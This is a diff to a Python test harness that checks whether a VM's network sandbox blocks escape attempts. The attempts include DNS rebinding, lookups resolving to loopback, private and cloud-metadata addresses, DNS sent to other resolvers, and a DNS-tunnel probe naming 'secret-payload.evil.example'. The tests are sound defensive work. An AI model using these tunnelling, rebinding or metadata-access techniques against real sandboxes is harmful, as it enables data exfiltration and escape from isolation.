@@ -3,11 +3,14 @@ of the test's own. What gets through is seen by a socket that hears every interf
 in the right place.
 
   escapes.py host MVMCTL LAYER...   in a new network namespace: prints "ok NAME" or "not ok NAME: why" for each way
+  escapes.py guest MVMCTL PUMP IMAGE OPTION...
+                                    the same with a real guest: a VM of that image, in which PUMP (frame-pump.c) sends the frames;
+                                    OPTIONs are up's
   escapes.py far                    the internet behind it: every address, a resolver at 9.9.9.53, a listener at port 443
 
 LAYER is as for `mvmctl --network` (src/net/process.h).
 """
-import ctypes, ipaddress, os, re, select, socket, struct, subprocess, sys, threading, time
+import ctypes, ipaddress, os, queue, re, select, socket, struct, subprocess, sys, threading, time
 
 MAC = bytes.fromhex('525400123456')
 ROUTER_MAC = bytes.fromhex('52550a000202')
@@ -241,43 +244,24 @@ class Ears:
 
 
 class Network:
-    """The network process, its card, its log."""
+    """A card, and the log of what is denied."""
 
-    def __init__(self, mvmctl, layers):
-        self.card, card = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
-        self.log, log = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
-        self.resolv, resolv = socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)
-        fds = [card.fileno(), log.fileno(), resolv.fileno()]
-        self.card.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
-        self.text = b''
-        threading.Thread(target=self.tell_resolvers, daemon=True).start()
-        threading.Thread(target=self.read_log, daemon=True).start()
-        self.process = subprocess.Popen([mvmctl, '--network', *map(str, fds), *layers], pass_fds=fds)
-        for s in (card, log, resolv):
-            s.close()
-
-    def tell_resolvers(self):
-        while self.resolv.recv(16):
-            self.resolv.send(f'nameserver {RESOLVER}\n'.encode())
-
-    def read_log(self):
-        while data := self.log.recv(65536):
-            self.text += data
-
-    def send(self, *frames):
-        for f in frames:
-            self.card.send(f)
-
-    def wait_for(self, wanted, seconds=10):
+    def wait_for(self, wanted, seconds=60):
         """The first frame that wanted() takes, None."""
         end = time.monotonic() + seconds
         while (left := end - time.monotonic()) > 0:
-            if select.select([self.card], [], [], left)[0]:
-                frame = self.card.recv(70000)
+            if frame := self.receive(left):
                 self.answer_neighbour(frame)
                 if wanted(frame):
                     return frame
         return None
+
+    def wait_for_log(self, *texts, seconds=30):
+        """Whether all of them are in the log: its lines come by another way than frames."""
+        end = time.monotonic() + seconds
+        while not (there := all(text in self.log_text() for text in texts)) and time.monotonic() < end:
+            time.sleep(0.1)
+        return there
 
     def answer_neighbour(self, frame):
         """libslirp asks for the guest's MAC, as any router does."""
@@ -304,7 +288,7 @@ class Network:
         """What the answerer says: (rcode, addresses), None."""
         number = int.from_bytes(os.urandom(2), 'big')
         self.send(udp('10.0.2.3', 53, question(name, kind, number), from_port=42000))
-        f = self.wait_for(lambda f: f[12:14] == b'\x08\0' and f[23] == UDP and f[42:44] == struct.pack('!H', number), 15)
+        f = self.wait_for(lambda f: f[12:14] == b'\x08\0' and f[23] == UDP and f[42:44] == struct.pack('!H', number))
         if not f:
             return None
         message = f[42:]
@@ -316,6 +300,88 @@ class Network:
             found.append(str(ipaddress.ip_address(message[at + 12:at + 12 + n])))
             at += 12 + n
         return message[3] & 15, found
+
+
+
+class Process(Network):
+    """A network process without a VM."""
+
+    def __init__(self, mvmctl, layers):
+        self.card, card = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
+        self.log, log = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
+        self.resolv, resolv = socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)
+        fds = [card.fileno(), log.fileno(), resolv.fileno()]
+        self.card.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
+        self.text = b''
+        threading.Thread(target=self.tell_resolvers, daemon=True).start()
+        threading.Thread(target=self.read_log, daemon=True).start()
+        self.process = subprocess.Popen([mvmctl, '--network', *map(str, fds), *layers], pass_fds=fds)
+        for s in (card, log, resolv):
+            s.close()
+
+    def tell_resolvers(self):
+        while self.resolv.recv(16):
+            self.resolv.send(f'nameserver {RESOLVER}\n'.encode())
+
+    def read_log(self):
+        while data := self.log.recv(65536):
+            self.text += data
+
+    def send(self, *frames):
+        for f in frames:
+            self.card.send(f)
+
+    def receive(self, seconds):
+        return self.card.recv(70000) if select.select([self.card], [], [], seconds)[0] else b''
+
+    def log_text(self):
+        return self.text.decode()
+
+    def end(self):
+        """Whether it ran till now."""
+        ran = self.process.poll() is None
+        self.log.close()
+        self.process.terminate()
+        self.process.wait()
+        return ran
+
+
+class Guest(Network):
+    """A VM whose kernel sends what it is told."""
+
+    def __init__(self, mvmctl, pump, image, options):
+        self.mvmctl, self.name, self.frames = mvmctl, 'escapes', queue.Queue()
+        sh(mvmctl, 'up', image, '--name', self.name, *options)
+        sh(mvmctl, 'cp', pump, f'{self.name}:/tmp/pump')
+        self.process = subprocess.Popen([mvmctl, 'exec', self.name, '--', '/tmp/pump'], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
+        self.process.stdout.read(4)
+        threading.Thread(target=self.read_frames, daemon=True).start()
+
+    def read_frames(self):
+        while len(head := self.process.stdout.read(4)) == 4:
+            self.frames.put(self.process.stdout.read(struct.unpack('<I', head)[0]))
+
+    def send(self, *frames):
+        for f in frames:
+            self.process.stdin.write(struct.pack('<I', len(f)) + f)
+        self.process.stdin.flush()
+
+    def receive(self, seconds):
+        try:
+            return self.frames.get(timeout=seconds)
+        except queue.Empty:
+            return b''
+
+    def log_text(self):
+        with open(f'{os.environ["MVM_HOME"]}/vms/{self.name}/agent.log', errors='replace') as f:
+            return f.read()
+
+    def end(self):
+        ran = self.process.poll() is None
+        self.process.stdin.close()
+        self.process.wait()
+        sh(self.mvmctl, 'down', self.name)
+        return ran
 
 
 def report(name, good, why=''):
@@ -342,14 +408,14 @@ def set_up():
     return far
 
 
-def try_ways(network, ears, under):
-    ways = Ways().list
+def try_ways(network, ears, under, without=()):
+    ways = [w for w in Ways().list if w[0] not in without]
     for name, port, frames, says in ways:
         network.send(*frames)
     # What is asked last is answered when all before it has been judged.
     report(f'{under}: the answerer still answers', network.lookup('ok.example.org') == (0, ['8.8.8.8']))
-    time.sleep(0.5)
-    through, log = ears.ports(), network.text.decode()
+    network.wait_for_log(*(says for _, _, _, says in ways))
+    through, log = ears.ports(), network.log_text()
     echoes = ears.echoes()
     for name, port, frames, says in ways:
         why = 'it got through' if port in through else f'it is not logged as {says!r}' if says not in log else ''
@@ -359,7 +425,9 @@ def try_ways(network, ears, under):
 
 
 def try_names(network, ears, under, listed):
-    answers = [network.lookup('rebind.example.org') for _ in range(2)]
+    answers = [network.lookup('rebind.example.org')]
+    network.far_says('rebind')
+    answers.append(network.lookup('rebind.example.org'))
     report(f'{under}: an allowed name that later answers 127.0.0.1 has no address then', answers == [(0, ['8.8.8.8']), (0, [])], str(answers))
     for name in ('loopback', 'private', 'metadata', 'own'):
         got = network.lookup(f'{name}.example.org')
@@ -370,7 +438,7 @@ def try_names(network, ears, under, listed):
     for a in ('127.0.0.1', '192.168.77.1', '169.254.169.254', '198.41.0.9'):
         report(f'{under}: {a} is closed after a name answered it', not network.connects(a, 443))
     got = network.lookup('secret-payload.evil.example', 16)
-    asked = 'secret-payload' in network.far_log()
+    asked = 'secret-payload' in network.far_says('log')
     if listed:
         report(f'{under}: a tunnel by names reaches no resolver', got == (3, []) and not asked, f'{got} {asked}')
         ears.heard.clear()
@@ -379,7 +447,7 @@ def try_names(network, ears, under, listed):
         time.sleep(0.3)
         out = [h for h in ears.heard if h[2] == 53 and h[1] != RESOLVER]
         report(f'{under}: DNS elsewhere has no way out', not out, str(out))
-        report(f'{under}: it is logged', 'UDP to 8.8.4.4:53 was denied' in network.text.decode())
+        report(f'{under}: it is logged', network.wait_for_log('UDP to 8.8.4.4:53 was denied'))
     # A test that reaches nothing shows nothing.
     report(f'{under}: an allowed address is reached', network.connects('8.8.8.8', 443))
     if listed:
@@ -387,20 +455,30 @@ def try_names(network, ears, under, listed):
     report(f'{under}: an allowed address is reached over IPv6', network.connects('2606:4700::8', 443))
 
 
-def host(mvmctl, layers):
+def try_all(under, listed, make, without=()):
     far = set_up()
     ears = Ears()
-    network = Network(mvmctl, layers)
-    network.far_log = lambda: (far.stdin.write('log\n'), far.stdin.flush(), far.stdout.readline())[2]
-    under = 'under ' + layers[0][1:]
-    try_ways(network, ears, under)
-    try_names(network, ears, under, layers[0] == '@listed')
-    report(f'{under}: the network process runs on', network.process.poll() is None)
-    network.log.close()
-    network.process.terminate()
-    network.process.wait()
+    network = make()
+    network.far_says = lambda what: (far.stdin.write(what + '\n'), far.stdin.flush(), far.stdout.readline())[2]
+    try_ways(network, ears, under, without)
+    try_names(network, ears, under, listed)
+    report(f'{under}: it runs on', network.end())
     far.stdin.close()
     far.wait()
+
+
+def host(mvmctl, layers):
+    try_all('under ' + layers[0][1:], layers[0] == '@listed', lambda: Process(mvmctl, layers))
+
+
+def guest(mvmctl, pump, image, options):
+    """The VM's supervisor reads this namespace's resolv.conf; a guest's kernel sends no frame that is longer than its MTU."""
+    path = f'{os.environ["MVM_HOME"]}/resolv.conf'
+    with open(path, 'w') as f:
+        f.write(f'nameserver {RESOLVER}\n')
+    sh('mount', '--bind', path, '/etc/resolv.conf')
+    listed = '--allow' in options
+    try_all('a guest under ' + ('a list' if listed else 'public'), listed, lambda: Guest(mvmctl, pump, image, options), ('an oversized frame',))
 
 
 # ---- The internet ----
@@ -409,10 +487,9 @@ NAMES = {'ok': '8.8.8.8', 'loopback': '127.0.0.1', 'private': '192.168.77.1', 'm
          'mapped': '::ffff:127.0.0.1', 'six': '2606:4700::8'}
 
 
-def serve_dns(log):
+def serve_dns(log, rebound):
     s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
     s.bind((RESOLVER, 53))
-    rebinds = 0
     while True:
         data, who = s.recvfrom(2000)
         end = data.index(b'\0', 12) + 1
@@ -421,8 +498,7 @@ def serve_dns(log):
         first = re.split(r'[^a-z-]', name)[0]
         address = NAMES.get(first)
         if first == 'rebind':
-            address = '8.8.8.8' if rebinds == 0 else '127.0.0.1'
-            rebinds += 1
+            address = '127.0.0.1' if rebound.is_set() else '8.8.8.8'
         kind = data[end:end + 2]
         raw = b''
         if address and kind == b'\0\1' and ':' not in address:
@@ -444,16 +520,20 @@ def far():
     # Every other address is here.
     sh('ip', 'route', 'add', 'local', '0.0.0.0/0', 'dev', 'lo', 'table', 'main')
     sh('ip', '-6', 'route', 'add', 'local', '::/0', 'dev', 'lo', 'table', 'main')
-    log = []
-    threading.Thread(target=serve_dns, args=(log,), daemon=True).start()
+    log, rebound = [], threading.Event()
+    threading.Thread(target=serve_dns, args=(log, rebound), daemon=True).start()
     listener = socket.create_server(('', 443), family=socket.AF_INET6, dualstack_ipv6=True, backlog=64)
     print('ready', flush=True)
     for line in sys.stdin:
+        if line == 'rebind\n':
+            rebound.set()
         print(' '.join(log), flush=True)
 
 
 ctypes.CDLL(None).prctl(1, 9)  # PR_SET_PDEATHSIG: nothing stays when the test is killed
 if sys.argv[1] == 'far':
     far()
+elif sys.argv[1] == 'guest':
+    guest(*sys.argv[2:5], sys.argv[5:])
 else:
     host(sys.argv[2], sys.argv[3:])
